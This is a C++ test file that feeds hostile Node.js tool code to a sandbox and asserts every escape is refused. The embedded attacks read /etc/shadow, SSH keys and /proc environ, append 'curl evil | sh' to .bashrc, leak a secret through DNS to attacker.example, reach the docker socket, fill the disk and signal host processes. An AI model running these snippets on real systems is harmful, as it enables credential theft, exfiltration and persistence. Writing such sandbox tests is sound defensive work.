// Hostile Node tool code from ../shared/corpora/escape_cases.md, run through
// the real sandbox::Pool: one test per scenario that applies to Node, named
// after its id. Each asserts the error inside the sandbox (what the tool saw,
// or how the host ended the call) and the absence of any host-side effect,
// with canaries set up around every test:
//   * a secret file and a .bashrc in a temporary HOME-like directory (content
//     and modification time unchanged, no new file there or in /tmp);
//   * an environment variable of the test process (never seen by a tool);
//   * a TCP and a UDP listener on 127.0.0.1, a UNIX socket in the temporary
//     directory and an abstract UNIX socket (no connection, no datagram);
//   * an unrelated child process of the test (still alive: it dies on SIGKILL
//     and exits on SIGWINCH/SIGURG, which are harmless to everything else).
// The tools get the canaries' coordinates as arguments: an attacker is
// assumed to know them. Outcomes are asserted, never elapsed times.
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <memory>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>

#include "taskyon/hardening/probe.h"
#include "taskyon/sandbox/pool.h"
#include "taskyon/sandbox/sandbox.h"
#include "escape_fixture.h"
#include "test_util.h"

namespace taskyon::sandbox {
namespace {

namespace fs = std::filesystem;
using namespace std::chrono_literals;
using json::Value;
using taskyon::testing::TempDir;
using namespace escape;

std::string comm_of(int pid) {
  std::string comm;
  std::getline(std::ifstream("/proc/" + std::to_string(pid) + "/comm"), comm);
  return comm;
}


// --- The prelude every hostile tool shares ----------------------------------
// t(f) / ta(f): run an attempt, "ok:<value>" or "err:<code>" (Node's error
// code, the cause's code for fetch, else the error's name). ta bounds an async
// attempt by 3 s so a hung attempt is an outcome too.
std::string tool(const std::string& body) {
  return R"((() => {
  const describe = (e) => 'err:' + ((e && (e.code || (e.cause && e.cause.code) || e.name)) || String(e));
  const t = (f) => { try { const v = f(); return 'ok:' + String(v).slice(0, 300); } catch (e) { return describe(e); } };
  const ta = async (f) => {
    let timer;
    try {
      const late = new Promise((_, rej) => { timer = setTimeout(() => rej({ code: 'TIMEOUT' }), 3000); });
      const v = await Promise.race([f(), late]);
      return 'ok:' + String(v).slice(0, 300);
    } catch (e) { return describe(e); } finally { clearTimeout(timer); }
  };
  return async (a, context) => {
)" + body + R"(
  };
})())";
}

class EscapeNode : public escape::EscapeFixture {
 protected:
  EscapeNode() : EscapeFixture(JsRuntime::node) {}
};

const std::set<std::string> kFsDenied = {"ERR_ACCESS_DENIED", "EACCES"};

// --- A. Filesystem -----------------------------------------------------------

TEST_F(EscapeNode, FS_01_ReadCanaryFile) {
  auto out = run("fs01", tool(R"(
    const fs = require('fs');
    return {
      readFileSync: t(() => fs.readFileSync(a.secret_file, 'utf8')),
      promisesReadFile: await ta(() => fs.promises.readFile(a.secret_file, 'utf8')),
      createReadStream: await ta(() => new Promise((res, rej) => {
        const s = fs.createReadStream(a.secret_file, 'utf8'); let d = '';
        s.on('data', (c) => { d += c; }); s.on('end', () => res(d)); s.on('error', rej);
      })),
      openAsBlob: await ta(async () => (await fs.openAsBlob(a.secret_file)).text()),
      openSync: t(() => fs.openSync(a.secret_file, 'r')),
      etcShadow: t(() => fs.readFileSync('/etc/shadow', 'utf8')),
    };
  )"));
  ExpectDenied(out, kFsDenied);
}

TEST_F(EscapeNode, FS_02_ProbeExistence) {
  auto out = run("fs02", tool(R"(
    const fs = require('fs');
    const probes = {
      existsSync: (p) => fs.existsSync(p),
      lstatSync: (p) => fs.lstatSync(p).size,
      statfsSync: (p) => fs.statfsSync(p).type,
      accessSync: (p) => fs.accessSync(p),
      realpathNative: (p) => fs.realpathSync.native(p),
      watchFile: (p) => { fs.watchFile(p, () => {}); fs.unwatchFile(p); return 'watched'; },
    };
    const out = {};
    for (const [name, probe] of Object.entries(probes)) {
      out[name + ' existing'] = t(() => probe(a.secret_file));
      out[name + ' missing'] = t(() => probe(a.home + '/no-such-file'));
      out[name + ' ssh'] = t(() => probe('/root/.ssh/id_rsa'));
    }
    return out;
  )"));
  ExpectDenied(out, kFsDenied);
  // The answer for an existing file is the answer for a missing one.
  for (const char* probe : {"existsSync", "lstatSync", "statfsSync", "accessSync", "realpathNative", "watchFile"}) {
    EXPECT_EQ(out.value[std::string(probe) + " existing"], out.value[std::string(probe) + " missing"]) << probe;
  }
}

TEST_F(EscapeNode, FS_04_FoolThePermissionCheck) {
  auto out = run("fs04", tool(R"(
    const fs = require('fs'), path = require('path');
    const saved = { resolve: path.resolve, utf8Write: Buffer.prototype.utf8Write,
                    startsWith: String.prototype.startsWith, toNamespacedPath: path.toNamespacedPath };
    const out = {};
    try {
      path.resolve = () => '/tmp/allowed';
      path.toNamespacedPath = () => '/tmp/allowed';
      String.prototype.startsWith = function () { return true; };
      out.read = t(() => fs.readFileSync(a.secret_file, 'utf8'));
      Buffer.prototype.utf8Write = function () { return 0; };
      out.readBuffer = t(() => fs.readFileSync(Buffer.from(a.secret_file)).toString());
      out.readUrl = t(() => fs.readFileSync(new URL('file://' + a.secret_file)).toString());
    } finally {
      path.resolve = saved.resolve;
      path.toNamespacedPath = saved.toNamespacedPath;
      String.prototype.startsWith = saved.startsWith;
      Buffer.prototype.utf8Write = saved.utf8Write;
    }
    return out;
  )"));
  ExpectDenied(out, kFsDenied);
}

TEST_F(EscapeNode, FS_05_WriteAnywhere) {
  auto out = run("fs05", tool(R"(
    const fs = require('fs');
    const out = {};
    out.writeCwd = t(() => fs.writeFileSync('planted.txt', 'x'));
    out.writeTmp = t(() => fs.writeFileSync(a.tmp_probe, 'x'));
    out.appendBashrc = t(() => fs.appendFileSync(a.bashrc, 'curl evil | sh\n'));
    out.truncateBashrc = t(() => fs.truncateSync(a.bashrc, 0));
    out.chmodBashrc = t(() => fs.chmodSync(a.bashrc, 0o777));
    out.utimesBashrc = t(() => fs.utimesSync(a.bashrc, 0, 0));
    out.mkdirHome = t(() => fs.mkdirSync(a.home + '/planted'));
    out.symlinkHome = t(() => fs.symlinkSync(a.secret_file, a.home + '/link'));
    out.renameSecret = t(() => fs.renameSync(a.secret_file, a.home + '/moved'));
    out.copySecret = t(() => fs.copyFileSync(a.secret_file, 'copy.txt'));
    out.rmBashrc = t(() => fs.rmSync(a.bashrc));
    out.fileHandle = await ta(async () => {
      const h = await fs.promises.open(a.bashrc, 'a'); await h.write('x'); await h.close();
    });
    out.promisesWrite = await ta(() => fs.promises.writeFile(a.home + '/.profile', 'x'));
    out.writeStream = await ta(() => new Promise((res, rej) => {
      const s = fs.createWriteStream(a.tmp_probe); s.on('error', rej); s.end('x', (e) => (e ? rej(e) : res('written')));
    }));
    return out;
  )"));
  ExpectDenied(out, kFsDenied);
  ASSERT_EQ(pool().sandboxes().size(), 1u);
  EXPECT_TRUE(fs::is_empty(pool().sandboxes()[0].workdir));  // the sandbox's own cwd stays empty too
}

TEST_F(EscapeNode, FS_10_ReadProcAndSys) {
  auto out = run("fs10", tool(R"(
    const fs = require('fs');
    const out = {};
    for (const p of ['/proc/self/environ', '/proc/self/cmdline', '/proc/self/maps', '/proc/1/root/etc/passwd',
                     '/proc/' + a.host_pid + '/environ', '/proc/' + a.host_pid + '/mem',
                     '/proc/' + a.host_pid + '/cwd/' , '/sys/kernel/mm/transparent_hugepage/enabled',
                     '/sys/class/net']) {
      out[p] = t(() => fs.readFileSync(p).toString());
    }
    out.readdirProc = t(() => fs.readdirSync('/proc').length);
    return out;
  )"));
  ExpectDenied(out, kFsDenied);
}

TEST_F(EscapeNode, FS_11_ReadInheritedDescriptors) {
  // Descriptors the host holds without O_CLOEXEC: exactly what fork+exec would leak.
  const int leaked_file = ::open(secret_file_.c_str(), O_RDONLY);
  ASSERT_GE(leaked_file, 0);
  int leaked_pipe[2];
  ASSERT_EQ(::pipe(leaked_pipe), 0);
  ASSERT_EQ(::write(leaked_pipe[1], secret_.data(), secret_.size()), static_cast<ssize_t>(secret_.size()));
  auto out = run("fs11", tool(R"(
    const fs = require('fs');
    const buf = Buffer.alloc(4096);
    const found = [];
    for (let fd = 3; fd <= 1024; fd++) {
      let st;
      try { st = fs.fstatSync(fd); } catch { continue; }
      // pread: reads files, fails on pipes and event descriptors without consuming anything of Node's
      let text = '';
      try { text = buf.toString('utf8', 0, fs.readSync(fd, buf, 0, buf.length, 0)); } catch (e) { text = describe(e); }
      found.push({ fd, file: st.isFile(), text });
    }
    return found;
  )"));
  ::close(leaked_file);
  ::close(leaked_pipe[0]);
  ::close(leaked_pipe[1]);
  ASSERT_EQ(out.status, Status::ok) << out.error;
  for (const auto& fd : out.value) {
    EXPECT_FALSE(fd["file"].get<bool>()) << "fd " << fd["fd"] << " is a regular file: " << fd.dump();
  }
}

TEST_F(EscapeNode, FS_13_FillTheDisk) {
  auto out = run("fs13", tool(R"(
    const fs = require('fs');
    const chunk = Buffer.alloc(1 << 20, 0x41);
    const fill = (p) => t(() => { const fd = fs.openSync(p, 'w'); for (;;) fs.writeSync(fd, chunk); });
    return { cwd: fill('fill.bin'), tmp: fill(a.tmp_probe), shm: fill('/dev/shm/taskyon-fill'),
             home: fill(a.home + '/fill.bin'), varTmp: fill('/var/tmp/taskyon-fill') };
  )"));
  ExpectDenied(out, kFsDenied);
  EXPECT_FALSE(fs::exists("/dev/shm/taskyon-fill"));
  EXPECT_FALSE(fs::exists("/var/tmp/taskyon-fill"));
  ASSERT_EQ(pool().sandboxes().size(), 1u);
  EXPECT_TRUE(fs::is_empty(pool().sandboxes()[0].workdir));
}

// --- B. Network --------------------------------------------------------------

const std::set<std::string> kNetDenied = {"EACCES", "EPERM", "ENETUNREACH", "ERR_ACCESS_DENIED"};

TEST_F(EscapeNode, NET_01_ConnectToTheHostAndTheInternet) {
  auto out = run("net01", tool(R"(
    const net = require('net'), http = require('http'), dgram = require('dgram');
    const connect = (port, host) => new Promise((res, rej) => {
      const s = net.connect(port, host, () => res('connected')); s.on('error', rej);
    });
    return {
      httpGet: await ta(() => new Promise((res, rej) => {
        const r = http.get({ host: '127.0.0.1', port: a.tcp_port }, res); r.on('error', rej);
      })),
      netHost: await ta(() => connect(a.tcp_port, '127.0.0.1')),
      netHost6: await ta(() => connect(a.tcp_port, '::1')),
      netPublic: await ta(() => connect(443, '1.1.1.1')),
      udp: await ta(() => new Promise((res, rej) => {
        const s = dgram.createSocket('udp4'); s.on('error', rej);
        s.send('exfiltrated', a.udp_port, '127.0.0.1', (e) => (e ? rej(e) : res('sent')));
      })),
      listen: await ta(() => new Promise((res, rej) => {
        const srv = net.createServer(); srv.on('error', rej); srv.listen(0, '127.0.0.1', () => res('listening'));
      })),
    };
  )"));
  ExpectDenied(out, kNetDenied);
  // fetch is the mediated capability (DESIGN §6), not the runtime's: with no
  // capability context here every request is refused by the host.
  auto fetched = run("net01-fetch", tool(R"(
    return {
      fetchHost: await ta(() => fetch('http://127.0.0.1:' + a.tcp_port + '/')),
      fetchPublic: await ta(() => fetch('http://1.1.1.1/')),
      fetchHttps: await ta(() => fetch('https://127.0.0.1:' + a.tcp_port + '/')),
    };
  )"));
  ExpectDenied(fetched, {"denied"});
}

TEST_F(EscapeNode, NET_03_ExfiltrateThroughDns) {
  auto out = run("net03", tool(R"(
    const dns = require('dns');
    const name = process.env[a.env_name] + '.attacker.example';
    return {
      lookup: await ta(() => dns.promises.lookup(name)),
      resolve4: await ta(() => dns.promises.resolve4('secret.attacker.example')),
      resolverAtCanary: await ta(() => {
        const r = new dns.promises.Resolver(); r.setServers(['127.0.0.1:' + a.udp_port]);
        return r.resolve4('secret.attacker.example');
      }),
      resolvConf: t(() => require('fs').readFileSync('/etc/resolv.conf', 'utf8')),
    };
  )"));
  // getaddrinfo cannot read the resolver configuration nor open a socket;
  // c-ares's socket() is refused (it reports ECONNREFUSED).
  ExpectDenied(out, {"EAI_AGAIN", "ENOTFOUND", "ECONNREFUSED", "EACCES", "ERR_ACCESS_DENIED"});
}

TEST_F(EscapeNode, NET_04_ConnectToUnixSockets) {
  auto out = run("net04", tool(R"(
    const net = require('net');
    const connect = (path) => new Promise((res, rej) => {
      const s = net.connect({ path }, () => res('connected')); s.on('error', rej);
    });
    return {
      canary: await ta(() => connect(a.unix_path)),
      abstract: await ta(() => connect('\0' + a.abstract)),
      docker: await ta(() => connect('/var/run/docker.sock')),
      dbus: await ta(() => connect('/run/dbus/system_bus_socket')),
    };
  )"));
  ExpectDenied(out, {"EACCES", "EPERM", "ERR_ACCESS_DENIED"});
}

TEST_F(EscapeNode, NET_09_NoRawSyscallsFromJavaScript) {
  // io_uring needs raw syscalls (or an addon). JavaScript has no way to make
  // one here: process.binding, addons and WASI are refused, and WebAssembly
  // imports nothing from the host. The io_uring syscalls themselves are denied
  // by the seccomp filter: SeccompTest.DeniesTheKernelAttackSurface.
  auto out = run("net09", tool(R"(
    return {
      binding: t(() => process.binding('uv')),
      internalBinding: t(() => process._linkedBinding('uv')),
      dlopen: t(() => process.dlopen({ exports: {} }, '/tmp/evil.node')),
      wasi: t(() => new (require('wasi').WASI)({ version: 'preview1' })),
      ffi: t(() => require('ffi-napi')),
    };
  )"));
  ExpectDenied(out, {"ERR_ACCESS_DENIED", "ERR_DLOPEN_DISABLED", "ERR_INVALID_MODULE", "MODULE_NOT_FOUND"});
  EXPECT_EQ(out.value["binding"], "err:ERR_ACCESS_DENIED");
  EXPECT_EQ(out.value["dlopen"], "err:ERR_DLOPEN_DISABLED");
}

// --- C. Processes, exec, signals ------------------------------------------------

TEST_F(EscapeNode, PROC_02_ReexecTheRuntimeWithoutFlags) {
  // If a child ever ran, it would connect to the TCP canary.
  auto out = run("proc02", tool(R"(
    const cp = require('child_process');
    const payload = 'require("net").connect(' + a.tcp_port + ', "127.0.0.1")';
    return {
      spawnSync: t(() => cp.spawnSync(process.execPath, ['-e', payload]).status),
      execFileSync: t(() => cp.execFileSync(process.execPath, ['-e', payload])),
      execSync: t(() => cp.execSync('node -e "' + payload + '"')),
      spawn: t(() => cp.spawn(process.execPath, ['-e', payload]).pid),
      fork: t(() => cp.fork('-e', [payload]).pid),
      execve: t(() => process.execve(process.execPath, [process.execPath, '-e', payload])),
    };
  )"));
  ASSERT_EQ(out.status, Status::ok) << out.error;
  for (const char* attempt : {"spawnSync", "execFileSync", "execSync", "spawn", "fork"}) {
    EXPECT_EQ(out.value[attempt], "err:ERR_ACCESS_DENIED") << attempt;
  }
  EXPECT_EQ(out.value["execve"], "err:TypeError");  // Node 20 has no process.execve
  ASSERT_EQ(pool().sandboxes().size(), 1u);
  EXPECT_EQ(sandbox_processes(pool().sandboxes()[0].pid), only_the_sandbox(pool().sandboxes()[0].pid));  // no process but the sandbox
}

TEST_F(EscapeNode, PROC_03_StartAWorker) {
  auto out = run("proc03", tool(R"(
    const { Worker } = require('worker_threads');
    const dc = require('diagnostics_channel');
    const seen = [];
    dc.subscribe('worker_threads', (message) => seen.push(Object.keys(message || {})));
    const payload = 'require("net").connect(' + a.tcp_port + ', "127.0.0.1")';
    return {
      workerEval: t(() => new Worker(payload, { eval: true }).threadId),
      workerEnv: t(() => new Worker(payload, { eval: true, env: process.env, execArgv: [] }).threadId),
      workerData: t(() => new Worker(new URL('data:text/javascript,' + encodeURIComponent(payload))).threadId),
      channelSawWorkers: 'err:' + (seen.length === 0 ? 'NONE' : 'SEEN'),
    };
  )"));
  ExpectDenied(out, {"ERR_ACCESS_DENIED", "NONE"});
}

TEST_F(EscapeNode, PROC_05_OpenTheInspector) {
  auto out = run("proc05", tool(R"(
    return {
      open: t(() => require('inspector').open(0, '127.0.0.1')),
      url: t(() => require('inspector').url()),
      session: t(() => { const s = new (require('inspector').Session)(); s.connect(); return 'connected'; }),
      sigusr1: t(() => { process.kill(process.pid, 'SIGUSR1'); return 'sent'; }),
    };
  )"));
  ASSERT_EQ(out.status, Status::ok) << out.error;
  EXPECT_EQ(out.value["open"], "err:ERR_ACCESS_DENIED");
  EXPECT_EQ(out.value["url"], "ok:undefined");  // no inspector is listening
  EXPECT_EQ(out.value["session"], "err:ERR_ACCESS_DENIED");
  // SIGUSR1 would start the inspector on a normal Node; here it cannot listen
  // (no sockets) and the sandbox keeps answering.
  auto again = run("proc05", "() => 'still here'");
  EXPECT_EQ(again.status, Status::ok) << again.error;
}

// Issue 11 item 5: runtime flags, loader hooks and the inspector are fixed
// before tool code runs; one attempt per path, each refused or without effect.
TEST_F(EscapeNode, RuntimeFlagsV8FlagsCannotBeChanged) {
  auto out = run("flags-v8", tool(R"(
    const natives = () => new Function('return %GetOptimizationStatus(function () {})')();
    return {
      set: t(() => require('v8').setFlagsFromString('--allow-natives-syntax')),
      builtin: t(() => process.getBuiltinModule('v8').setFlagsFromString('--allow-natives-syntax')),
      nodePrefixed: t(() => require('node:v8').setFlagsFromString('--allow-natives-syntax')),
      restore: t(() => { const v8 = require('v8'); delete v8.setFlagsFromString; return typeof v8.setFlagsFromString; }),
      reassign: t(() => { 'use strict'; require('v8').setFlagsFromString = () => 1; return 'reassigned'; }),
      natives: t(natives),
    };
  )"));
  ASSERT_EQ(out.status, Status::ok) << out.error;
  EXPECT_EQ(out.value["set"], "err:ERR_ACCESS_DENIED");
  EXPECT_EQ(out.value["builtin"], "err:ERR_ACCESS_DENIED");
  EXPECT_EQ(out.value["nodePrefixed"], "err:ERR_ACCESS_DENIED");
  EXPECT_EQ(out.value["restore"], "ok:function");  // not deleted: non-configurable
  EXPECT_EQ(out.value["reassign"], "err:TypeError");
  EXPECT_EQ(out.value["natives"], "err:SyntaxError");  // V8's test intrinsics stay unreachable
}

TEST_F(EscapeNode, RuntimeFlagsNoLoaderHooks) {
  auto out = run("flags-loader", tool(R"(
    'use strict';
    const Module = require('module');
    return {
      register: t(() => Module.register('data:text/javascript,export async function resolve(s, c, n) { return n(s, c); }')),
      load: t(() => { Module._load = () => 'hooked'; return 'patched'; }),
      resolve: t(() => { Module._resolveFilename = () => 'x'; return 'patched'; }),
      protoRequire: t(() => { Module.prototype.require = () => 'hooked'; return 'patched'; }),
      compile: t(() => { Module.prototype._compile = () => 'hooked'; return 'patched'; }),
      extensions: t(() => { require.extensions['.js'] = () => 'hooked'; return 'patched'; }),
      newExtension: t(() => { require.extensions['.x'] = () => 'hooked'; return 'patched'; }),
      stillLoads: t(() => typeof require('util').format),
    };
  )"));
  ASSERT_EQ(out.status, Status::ok) << out.error;
  for (const char* key : {"load", "resolve", "protoRequire", "compile", "extensions", "newExtension"}) {
    EXPECT_EQ(out.value[key], "err:TypeError") << key;
  }
  EXPECT_EQ(out.value["register"], "err:ERR_ACCESS_DENIED");
  EXPECT_EQ(out.value["stillLoads"], "ok:function");
}

// Tracing turned on at run time wrote node_trace.1.log from a native thread:
// the read-only root refused it and the call stalled until its timeout.
TEST_F(EscapeNode, RuntimeFlagsNoTracing) {
  auto out = run("flags-trace", tool(R"(
    return {
      create: t(() => require('trace_events').createTracing({ categories: ['node.perf'] }).enable()),
      builtin: t(() => process.getBuiltinModule('trace_events').createTracing({ categories: ['v8'] })),
      replace: t(() => { 'use strict'; require('trace_events').createTracing = () => ({ enable() {} }); return 'replaced'; }),
      categories: t(() => require('trace_events').getEnabledCategories()),
    };
  )"));
  ASSERT_EQ(out.status, Status::ok) << out.error;  // answered, not a timeout
  EXPECT_EQ(out.value["create"], "err:ERR_ACCESS_DENIED");
  EXPECT_EQ(out.value["builtin"], "err:ERR_ACCESS_DENIED");
  EXPECT_EQ(out.value["replace"], "err:TypeError");
  EXPECT_EQ(out.value["categories"], "ok:undefined");
}

TEST_F(EscapeNode, RuntimeFlagsNoInspector) {
  auto out = run("flags-inspector", tool(R"(
    const inspector = require('inspector');
    return {
      open: t(() => inspector.open(0, '127.0.0.1')),
      session: t(() => new inspector.Session()),
      wait: t(() => inspector.waitForDebugger()),
      binding: t(() => process.binding('inspector')),
      debugProcess: t(() => process._debugProcess(process.pid)),
      debugEnd: t(() => process._debugEnd()),
      sigusr1: t(() => process.kill(process.pid, 'SIGUSR1')),
      sigusr1Number: t(() => process.kill(process.pid, 10)),
      rawKill: t(() => process._kill(process.pid, 10)),
      url: t(() => inspector.url()),
    };
  )"));
  ASSERT_EQ(out.status, Status::ok) << out.error;
  for (const char* key : {"open", "session", "wait", "binding", "debugProcess", "debugEnd", "sigusr1",
                          "sigusr1Number", "rawKill"}) {
    EXPECT_EQ(out.value[key], "err:ERR_ACCESS_DENIED") << key << ": " << out.value.dump();
  }
  EXPECT_EQ(out.value["url"], "ok:undefined");
}

TEST_F(EscapeNode, PROC_06_SignalOtherProcesses) {
  // The PID namespace hides every host pid (ESRCH); without it only
  // Landlock's signal scope (ABI 6) refuses (EPERM).
  const bool pid_namespace = machine().pid_namespace;
  if (!pid_namespace && machine().landlock_abi < 6) GTEST_SKIP() << "needs the PID namespace or Landlock ABI 6";
  // Fatal signals go out only once the harmless probes were refused, so that a
  // sandbox without its PID namespace and signal scope fails this test instead
  // of killing it.
  auto out = run("proc06", tool(R"(
    const out = {
      ppid: t(() => process.ppid),
      probeHost: t(() => process.kill(a.host_pid, 0)),
      probeCanary: t(() => process.kill(a.canary_pid, 0)),
      self: t(() => process.kill(process.pid, 0)),
    };
    if (out.probeHost.startsWith('err:') && out.probeCanary.startsWith('err:')) {
      out.killCanary = t(() => process.kill(a.canary_pid, 'SIGKILL'));
      out.killHost = t(() => process.kill(a.host_pid, 'SIGKILL'));
    }
    // kill(-1) reports success even when every target refused; the canary
    // process (it exits on SIGWINCH, which everything else ignores) says
    // whether it arrived.
    out.everyone = t(() => process.kill(-1, 'SIGWINCH'));
    return out;
  )"));
  ASSERT_EQ(out.status, Status::ok) << out.error;
  for (const char* attempt : {"probeHost", "probeCanary", "killCanary", "killHost"}) {
    EXPECT_EQ(out.value[attempt], pid_namespace ? "err:ESRCH" : "err:EPERM") << attempt;
  }
  if (pid_namespace) {
    EXPECT_EQ(out.value["ppid"], "ok:1");  // its init; the host is outside the namespace
  }
  EXPECT_EQ(out.value["self"], "ok:true");  // the sandbox's own domain
  // The host (this process) and the canary (checked in TearDown) are alive.
}

// Issue 11: file metadata and other processes' limits and priorities. The
// permission model refuses node:fs; os.setPriority is not a permission of it
// and reaches setpriority(2), which seccomp denies for any pid but the
// caller's own (the fixture compares the canaries' mode, owner, times,
// xattrs, and the unrelated process's and the host's limits and priority).
TEST_F(EscapeNode, META_01_ChangeMetadataAndOtherProcesses) {
  auto out = run("meta01", tool(R"(
    const fs = require('fs'), os = require('os');
    const sys = (f) => { try { return 'ok:' + String(f()); } catch (e) { return 'err:' + ((e.info && e.info.code) || e.code || e.name); } };
    return {
      chmod: t(() => fs.chmodSync(a.secret_file, 0o4777)),
      chown: t(() => fs.chownSync(a.secret_file, 0, 0)),
      utimes: t(() => fs.utimesSync(a.secret_file, 0, 0)),
      lutimes: t(() => fs.lutimesSync(a.bashrc, 0, 0)),
      setPriorityCanary: sys(() => os.setPriority(a.canary_pid, 19)),
      setPriorityHost: sys(() => os.setPriority(a.host_pid, 19)),
    };
  )"));
  ASSERT_EQ(out.status, Status::ok) << out.error;
  for (const char* attempt : {"chmod", "chown", "utimes", "lutimes"}) {
    EXPECT_EQ(out.value[attempt], "err:ERR_ACCESS_DENIED") << attempt;
  }
  for (const char* attempt : {"setPriorityCanary", "setPriorityHost"}) {
    EXPECT_EQ(out.value[attempt], "err:EPERM") << attempt << ": " << out.value.dump();
  }
}

TEST_F(EscapeNode, PROC_11_IgnoreTermination) {
  const std::string code = tool(R"(
    if (a.warm) return process.pid;
    process.on('SIGTERM', () => {}); process.on('SIGINT', () => {}); process.on('SIGHUP', () => {});
    process.title = 'tky-stubborn';
    for (;;) {}
  )");
  auto warm = run("proc11", code, Value{{"warm", true}});
  ASSERT_EQ(warm.status, Status::ok) << warm.error;
  ASSERT_EQ(pool().sandboxes().size(), 1u);
  const int pid = pool().sandboxes()[0].pid;  // the host's view: inside its PID namespace it is 2
  auto out = run("proc11", code, Value::object(), 500ms);
  EXPECT_EQ(out.status, Status::timeout) << out.error;
  EXPECT_EQ(out.destroyed, "timeout");
  EXPECT_TRUE(process_gone(pid));
  auto next = run("proc11", code, Value{{"warm", true}});
  EXPECT_TRUE(next.fresh_sandbox);
}

// --- D. Environment and information disclosure ----------------------------------

TEST_F(EscapeNode, ENV_01_DumpEnvironmentAndArguments) {
  auto out = run("env01", tool(R"(
    return { env: process.env, keys: Object.keys(process.env), argv: process.argv,
             execArgv: process.execArgv.filter((x) => x.startsWith('--')), config: process.config,
             direct: t(() => process.env[a.env_name]) };
  )"));
  ASSERT_EQ(out.status, Status::ok) << out.error;
  EXPECT_EQ(out.value["keys"], Value::array());
  EXPECT_EQ(out.value["direct"], "ok:undefined");
  EXPECT_EQ(out.value["env"].dump().find(kEnvCanary), std::string::npos);
  for (const auto& flag : out.value["execArgv"]) {
    EXPECT_FALSE(flag.get<std::string>().starts_with("--allow")) << flag;
  }
  EXPECT_EQ(out.value["argv"].size(), 4u);  // node and the harness's three limits
}

TEST_F(EscapeNode, ENV_04_FingerprintTheHost) {
  // Accepted residual leakage (docs/sandbox.md): what a tool learns here is harmless.
  auto out = run("env04", tool(R"(
    const os = require('os');
    return {
      hostname: t(() => os.hostname()),
      userInfo: t(() => JSON.stringify(os.userInfo())),
      homedir: t(() => os.homedir()),
      interfaces: t(() => Object.keys(os.networkInterfaces()).join(',')),
      uid: process.getuid(), cwd: process.cwd(), execPath: process.execPath,
      cpus: os.cpus().length, tmpdir: os.tmpdir(),
    };
  )"));
  ASSERT_EQ(out.status, Status::ok) << out.error;
  char host_name[256] = {};
  ASSERT_EQ(::gethostname(host_name, sizeof host_name), 0);
  if (machine().user_namespaces) {
    EXPECT_EQ(out.value["hostname"], "ok:sandbox");
    EXPECT_EQ(out.value["uid"], 1000);
  }
  EXPECT_NE(out.value["hostname"], "ok:" + std::string(host_name));
  const std::string interfaces = out.value["interfaces"].get<std::string>();
  EXPECT_TRUE(interfaces.starts_with("err:") || interfaces == "ok:" || interfaces == "ok:lo") << interfaces;
  EXPECT_TRUE(out.value["userInfo"].get<std::string>().starts_with("err:")) << out.value["userInfo"];
  EXPECT_TRUE(out.value["homedir"].get<std::string>().starts_with("err:")) << out.value["homedir"];
  EXPECT_EQ(out.value.dump().find(home_.path().string()), std::string::npos);
}

// --- E. Object tricks -------------------------------------------------------------

TEST_F(EscapeNode, OBJ_01_ConstructorChainToProcess) {
  auto out = run("obj01", tool(R"(
    const P = context.constructor.constructor('return process')();
    const req = P.mainModule ? P.mainModule.require : require;
    return {
      gotProcess: 'err:' + (typeof P.pid === 'number' ? 'REACHED' : 'NOT_REACHED'),
      read: t(() => req('fs').readFileSync(a.secret_file, 'utf8')),
      env: 'err:' + (Object.keys(P.env).length === 0 ? 'EMPTY_ENV' : 'HOST_ENV'),
      binding: t(() => P.binding('fs')),
      spawn: t(() => req('child_process').spawnSync('id').status),
    };
  )"));
  // Reaching `process` is expected (no vm isolation is relied on); it grants nothing.
  ExpectDenied(out, {"REACHED", "EMPTY_ENV", "ERR_ACCESS_DENIED", "EACCES"});
  EXPECT_EQ(out.value["gotProcess"], "err:REACHED");
}

TEST_F(EscapeNode, OBJ_04_HostileResultValues) {
  const std::string code = R"((a) => {
    if (a.kind === 'proto') return JSON.parse('{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"p":1}}}');
    if (a.kind === 'deep') { let v = []; for (let i = 0; i < 10000; i++) v = [v]; return v; }
    if (a.kind === 'wide') { const o = {}; for (let i = 0; i < 1e6; i++) o['key' + i] = i; return o; }
    if (a.kind === 'surrogate') return 'a\ud800b';
    if (a.kind === 'numbers') return [NaN, Infinity, -Infinity, -0];
    if (a.kind === 'rawDeep') {
      require('fs').writeSync(1, '{"type":"result","id":1,"value":' + '['.repeat(10000) + ']'.repeat(10000) + '}\n');
      return new Promise(() => {});
    }
  })";
  auto proto = run("obj04", code, Value{{"kind", "proto"}});
  ASSERT_EQ(proto.status, Status::ok) << proto.error;
  EXPECT_EQ(proto.value["__proto__"]["isAdmin"], true);  // plain data on the host: a member like any other
  EXPECT_EQ(proto.value.size(), 2u);
  EXPECT_FALSE(Value::object().contains("isAdmin"));
  for (const char* kind : {"deep", "surrogate"}) {
    auto refused = run("obj04", code, Value{{"kind", kind}});
    EXPECT_EQ(refused.status, Status::tool_error) << kind << ": " << refused.error;
    EXPECT_FALSE(refused.destroyed.has_value()) << kind;
  }
  // A result over one frame (~19 MB) is refused by the host and destroys the
  // sandbox (issue 12: never a kept sandbox holding it).
  auto wide = run("obj04", code, Value{{"kind", "wide"}});
  EXPECT_EQ(wide.status, Status::protocol_error) << wide.error;
  EXPECT_EQ(wide.destroyed, "protocol_error");
  auto numbers = run("obj04", code, Value{{"kind", "numbers"}});
  ASSERT_EQ(numbers.status, Status::ok) << numbers.error;
  EXPECT_EQ(numbers.value, (Value{nullptr, nullptr, nullptr, 0}));
  auto raw = run("obj04", code, Value{{"kind", "rawDeep"}});  // past the harness: the host's own cap
  EXPECT_EQ(raw.status, Status::protocol_error) << raw.error;
  EXPECT_EQ(raw.destroyed, "protocol_error");
}

// --- G. IPC / protocol abuse --------------------------------------------------------

TEST_F(EscapeNode, IPC_02_WriteRawFrames) {
  const std::string code = tool(R"(
    const fs = require('fs');
    const forged = (id) => JSON.stringify({ type: 'result', id, value: 'forged' }) + '\n';
    if (a.fd3) return { fd3: t(() => fs.writeSync(3, forged(1))) };
    fs.writeSync(1, forged(999999));
    return 'honest';
  )");
  auto fd3 = run("ipc02", code, Value{{"fd3", true}});  // fd 3 is none of the host's: Node's own epoll
  ASSERT_EQ(fd3.status, Status::ok) << fd3.error;
  EXPECT_TRUE(fd3.value["fd3"].get<std::string>().starts_with("err:")) << fd3.value;
